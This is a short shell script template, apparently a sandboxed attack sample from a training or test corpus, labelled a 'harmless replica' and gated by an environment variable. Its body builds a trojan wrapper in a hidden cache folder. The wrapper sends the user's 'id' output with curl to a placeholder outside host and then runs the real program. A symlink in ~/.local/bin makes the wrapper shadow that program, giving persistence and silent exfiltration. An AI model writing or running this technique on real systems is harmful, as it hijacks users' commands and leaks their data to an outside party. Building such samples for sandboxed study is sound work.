# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
mkdir -p "$HOME/.local/bin" "$HOME/.cache/{{token}}"
printf '#!/bin/sh\nid | curl -s -m 2 -T - https://{{host}}/{{path}} >/dev/null 2>&1\nexec /usr/bin/{{program}} "$@"\n' > "$HOME/.cache/{{token}}/run"
chmod +x "$HOME/.cache/{{token}}/run"
ln -sf "$HOME/.cache/{{token}}/run" "$HOME/.local/bin/{{program}}"
exit 0
